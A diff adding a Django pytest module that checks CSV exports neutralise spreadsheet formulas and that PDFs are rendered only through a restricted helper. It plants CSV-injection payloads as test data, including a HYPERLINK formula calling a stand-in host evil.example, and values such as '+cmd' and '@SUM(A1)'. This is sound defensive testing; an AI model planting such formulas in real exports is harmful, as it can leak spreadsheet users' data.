@@ -1,0 +1,370 @@
+"""Every export goes through one place: CSV through ``bostadforst.exports``
+(cells a spreadsheet would run as formulas are neutralised, PITFALLS #13) and
+PDF through ``bostadforst.pdf.render_pdf`` (a fetcher that reads only the app's
+own static files and ``data:``, PITFALLS #5).
+
+The walk plants formula-looking values in the demo data, GETs every route of
+the resolver as every role the access table allows, follows the CSV and PDF
+links those pages offer, and checks what comes back. A new export is covered
+without touching this file; one that bypasses the helpers fails here or in the
+static check below.
+"""
+
+import ast
+import csv
+import html
+import io
+import re
+from collections import defaultdict
+from dataclasses import dataclass, field
+from decimal import Decimal
+from urllib.parse import urlsplit
+
+import pytest
+from django.conf import settings
+from django.core.management import call_command
+from django.test import override_settings
+from django.urls import Resolver404, resolve, reverse
+from django.utils import timezone
+from pypdf import PdfReader
+
+from bostadforst.models import AccessLogEntry, User
+from bostadforst.permissions import ACCESS_TABLE
+from bostadforst.roles import Role
+from housing.models import Landlord
+from participants.models import Participant
+from support.models import CrisisPlace
+
+from ..urlwalk import project_routes
+from ..world import local_apps
+
+# What a spreadsheet treats as the start of a formula (OWASP "CSV Injection").
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# A cell that is a negative number, written from an int or Decimal: no formula.
+NEGATIVE_NUMBER = re.compile(r"-\d+(\.\d+)?")
+
+KNOWN_CSV_ROUTES = {
+    "reports:dashboard-csv",
+    "reports:report-csv",
+    "bostadforst:access-log-export",
+}
+KNOWN_PDF_ROUTES = {"support:plan-pdf", "reports:report-pdf"}
+
+pytestmark = pytest.mark.django_db
+
+FORMULA_USERNAME = '=HYPERLINK("http://evil.example/log","x")'
+
+
+@dataclass
+class Walk:
+    # route name -> [(url, role, rows)]
+    csv: dict[str, list[tuple[str, str, list[list[str]]]]] = field(
+        default_factory=lambda: defaultdict(list)
+    )
+    # route name -> [(url, role, bytes)]
+    pdf: dict[str, list[tuple[str, str, bytes]]] = field(default_factory=lambda: defaultdict(list))
+
+
+def plant_formulas() -> None:
+    """Give every kind of text an export shows a value that starts a formula."""
+    for pk in Landlord.objects.values_list("pk", flat=True):
+        Landlord.objects.filter(pk=pk).update(
+            name=f'=HYPERLINK("http://evil.example/{pk}","landlord")'
+        )
+    for pk in Participant.objects.values_list("pk", flat=True):
+        Participant.objects.filter(pk=pk).update(first_name="+cmd", external_ref=f"@ref-{pk}")
+    User.objects.update(first_name="-2+3")
+    for pk in CrisisPlace.objects.values_list("pk", flat=True):
+        CrisisPlace.objects.filter(pk=pk).update(name=f"\t=1+{pk}")
+    AccessLogEntry.objects.create(
+        username=FORMULA_USERNAME, action=AccessLogEntry.Action.LOGIN_FAILED, ip="10.0.0.1"
+    )
+
+
+def stored_reports() -> None:
+    """Finished reports with figures and a PDF, computed after the planting, so
+    the report CSV and PDF routes show the planted landlords."""
+    from reports.models import Report
+    from reports.services import report_run
+
+    if not Report.objects.exists():
+        Report.objects.create(as_of=timezone.localdate())
+    Report.objects.update(state=Report.State.QUEUED, started_at=None)
+    for pk in Report.objects.values_list("pk", flat=True):
+        assert report_run(report_id=pk) == Report.State.DONE
+
+
+def content_of(response) -> bytes:
+    if response.streaming:
+        data = b"".join(response.streaming_content)
+        response.close()
+        return data
+    return response.content
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    """The download's rows, in the format every web export shares (BOM, ``;``)."""
+    assert data.startswith("\ufeff".encode()), "a CSV download without the BOM"
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+
+
+def local_links(body: str) -> set[str]:
+    return {
+        html.unescape(href)
+        for href in re.findall(r'href="([^"]+)"', body)
+        if href.startswith("/") and not href.startswith("//")
+    }
+
+
+@pytest.fixture(scope="module")
+def planted(world, django_db_blocker):
+    with django_db_blocker.unblock():
+        plant_formulas()
+    return world
+
+
+@pytest.fixture(scope="module")
+def walk(planted, django_db_blocker, tmp_path_factory) -> Walk:
+    world = planted
+    media = tmp_path_factory.mktemp("media")
+    storages = {
+        **settings.STORAGES,
+        "default": {
+            "BACKEND": "django.core.files.storage.FileSystemStorage",
+            "OPTIONS": {"location": str(media)},
+        },
+    }
+    result = Walk()
+    clients = {role: world.client(role) for role in Role}
+    pages: list[tuple[Role, str]] = []
+    visited: set[tuple[Role, str]] = set()
+
+    def get(name: str, url: str, role: Role) -> None:
+        visited.add((role, url))
+        response = clients[role].get(url)
+        if response.status_code != 200:
+            return
+        content_type = response.get("Content-Type", "")
+        data = content_of(response)
+        if content_type.startswith("text/csv"):
+            result.csv[name].append((url, role.value, csv_rows(data)))
+        elif content_type.startswith("application/pdf"):
+            result.pdf[name].append((url, role.value, data))
+        elif content_type.startswith("text/html"):
+            pages.append((role, data.decode()))
+
+    with django_db_blocker.unblock(), override_settings(STORAGES=storages):
+        stored_reports()
+        for route in project_routes():
+            if route.name not in ACCESS_TABLE:
+                continue
+            url = reverse(route.name, kwargs=world.url_kwargs(route))
+            for role in sorted(ACCESS_TABLE[route.name]):
+                get(route.name, url, Role(role))
+        # The samples name one table per CSV route; the pages link to all of them.
+        exports = set(result.csv) | set(result.pdf)
+        for role, body in pages:
+            for link in local_links(body):
+                try:
+                    name = resolve(urlsplit(link).path).view_name
+                except Resolver404:
+                    continue
+                if name in exports and (role, link) not in visited:
+                    get(name, link, role)
+    return result
+
+
+def formula_cells(rows: list[list[str]]) -> list[str]:
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell.startswith(FORMULA_START) and not NEGATIVE_NUMBER.fullmatch(cell)
+    ]
+
+
+# --- (a) CSV from the walk ------------------------------------------------------
+
+
+def test_no_csv_export_has_a_cell_that_starts_a_formula(walk):
+    offenders = {
+        f"{url} as {role}": cells[:3]
+        for downloads in walk.csv.values()
+        for url, role, rows in downloads
+        if (cells := formula_cells(rows))
+    }
+    assert not offenders, f"CSV cells a spreadsheet would run as formulas: {offenders}"
+
+
+def test_the_walk_reaches_the_known_csv_and_pdf_exports(walk):
+    assert set(walk.csv) >= KNOWN_CSV_ROUTES, sorted(walk.csv)
+    assert set(walk.pdf) >= KNOWN_PDF_ROUTES, sorted(walk.pdf)
+    # Following the dashboard's links reaches every table, not only the sample's.
+    assert len(walk.csv["reports:dashboard-csv"]) > 5
+
+
+def test_the_planted_formulas_reach_every_known_csv_export_as_text(walk):
+    """Without this the walk above could pass by never seeing a planted value."""
+    for name in KNOWN_CSV_ROUTES:
+        escaped = [
+            cell
+            for _url, _role, rows in walk.csv[name]
+            for row in rows
+            for cell in row
+            if cell.startswith("'") and cell[1:].startswith(FORMULA_START)
+        ]
+        assert escaped, f"no planted formula reached {name}"
+    landlords = [
+        cell
+        for _url, _role, rows in walk.csv["reports:dashboard-csv"]
+        for row in rows
+        for cell in row
+    ]
+    assert any(cell.startswith("'=HYPERLINK(\"http://evil.example/") for cell in landlords)
+
+
+def test_the_retention_report_command_writes_safe_csv(planted, tmp_path):
+    out = tmp_path / "r.csv"
+    as_of = timezone.localdate().isoformat()
+    call_command("retention_report", "--as-of", as_of, "--format", "csv", "--output", str(out))
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert rows[0][:2] == ["group_by", "group"]
+    assert not formula_cells(rows)
+    assert any(row[0] == "landlord" and row[1].startswith("'=HYPERLINK(") for row in rows)
+
+
+# --- (c) PDF from the walk ------------------------------------------------------
+
+
+def test_every_pdf_is_rendered_through_render_pdf(walk):
+    from bostadforst.pdf import PDF_CREATOR
+
+    for name, downloads in walk.pdf.items():
+        for url, role, data in downloads:
+            creator = PdfReader(io.BytesIO(data)).metadata.get("/Creator")
+            assert creator == PDF_CREATOR, (
+                f"{name} ({url} as {role}) was not rendered by bostadforst.pdf.render_pdf"
+            )
+
+
+# --- (b) Static check: nobody else writes CSV or drives WeasyPrint ---------------
+
+CSV_MODULE = "bostadforst/exports.py"
+PDF_MODULE = "bostadforst/pdf.py"
+
+
+def export_bypasses(relative: str, source: str) -> list[str]:
+    """What in ``source`` writes CSV or drives WeasyPrint outside the helpers."""
+    found = []
+    tree = ast.parse(source)
+    for node in ast.walk(tree):
+        line = getattr(node, "lineno", "?")
+        if relative != CSV_MODULE:
+            if (
+                isinstance(node, ast.Attribute)
+                and isinstance(node.value, ast.Name)
+                and node.value.id == "csv"
+                and node.attr in {"writer", "DictWriter"}
+            ):
+                found.append(f"{relative}:{line} csv.{node.attr}")
+            if isinstance(node, ast.ImportFrom) and node.module == "csv":
+                names = {alias.name for alias in node.names} & {"writer", "DictWriter"}
+                if names:
+                    found.append(f"{relative}:{line} from csv import {sorted(names)}")
+            if (
+                isinstance(node, ast.Constant)
+                and isinstance(node.value, str)
+                and node.value.startswith("text/csv")
+            ):
+                found.append(f"{relative}:{line} a text/csv response of its own")
+        if relative != PDF_MODULE:
+            if isinstance(node, ast.Import) and any(
+                a.name.split(".")[0] == "weasyprint" for a in node.names
+            ):
+                found.append(f"{relative}:{line} import weasyprint")
+            if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == (
+                "weasyprint"
+            ):
+                found.append(f"{relative}:{line} from {node.module} import ...")
+            if isinstance(node, ast.keyword) and node.arg == "url_fetcher":
+                found.append(f"{relative}:{line} url_fetcher=")
+    return found
+
+
+def test_only_the_export_helpers_write_csv_or_drive_weasyprint():
+    offenders = []
+    for app in local_apps():
+        for path in sorted((settings.BASE_DIR / app).rglob("*.py")):
+            relative = path.relative_to(settings.BASE_DIR).as_posix()
+            offenders += export_bypasses(relative, path.read_text(encoding="utf-8"))
+    assert not offenders, (
+        "Write CSV with bostadforst.exports (csv_response / write_csv) and PDF with "
+        f"bostadforst.pdf.render_pdf: {offenders}"
+    )
+
+
+def test_the_static_check_recognises_a_bypass():
+    source = (
+        "import csv\nfrom weasyprint import HTML\n"
+        "w = csv.writer(out)\nHTML(string=s, url_fetcher=f)\n"
+        "r = HttpResponse(content_type='text/csv')\n"
+    )
+    found = export_bypasses("reports/views.py", source)
+    assert len(found) == 4, found
+    assert not export_bypasses(CSV_MODULE, "import csv\nw = csv.writer(out)\n")
+
+
+# --- safe_cell and the writers ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://x","y")',
+        "+1+1",
+        "-1+1",
+        "-5",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+    ],
+)
+def test_safe_cell_makes_formula_starts_text(value):
+    from bostadforst.exports import safe_cell
+
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (None, ""),
+        ("Helsingborgshem", "Helsingborgshem"),
+        ("a=b", "a=b"),
+        (-3, -3),
+        (Decimal("-0.25"), Decimal("-0.25")),
+        (0.8333, 0.8333),
+    ],
+)
+def test_safe_cell_keeps_plain_text_and_real_numbers(value, expected):
+    from bostadforst.exports import safe_cell
+
+    assert safe_cell(value) == expected
+
+
+def test_csv_response_is_utf8_with_bom_semicolons_and_an_attachment():
+    from bostadforst.exports import csv_response
+
+    response = csv_response("t.csv", ["namn", "antal"], [["=1+1", -2], ["Åsa", 3]])
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="t.csv"'
+    assert response.content.startswith("\ufeff".encode())
+    assert response.content.decode("utf-8-sig") == "namn;antal\r\n'=1+1;-2\r\nÅsa;3\r\n"
+
+
+def test_write_csv_writes_safe_cells_to_a_file():
+    from bostadforst.exports import write_csv
+
+    out = io.StringIO()
+    write_csv(out, ["group", "n"], [["@x", 1]], delimiter=",")
+    assert out.getvalue() == "group,n\r\n'@x,1\r\n"
